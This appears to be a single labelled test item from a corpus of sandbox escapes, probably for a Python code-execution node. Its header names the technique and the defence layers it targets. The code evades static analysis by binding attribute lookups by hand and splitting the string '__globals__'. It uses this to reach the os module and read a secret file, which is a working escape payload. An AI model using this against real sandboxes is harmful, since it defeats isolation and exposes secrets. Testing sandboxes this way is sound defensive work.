# class: attribute access without a dot
# technique: the reader of attributes, bound by hand
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
Function = kind(lambda: 0)
g = Function.__getattribute__(quit.__init__.__func__, '__glo' + 'bals__')
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
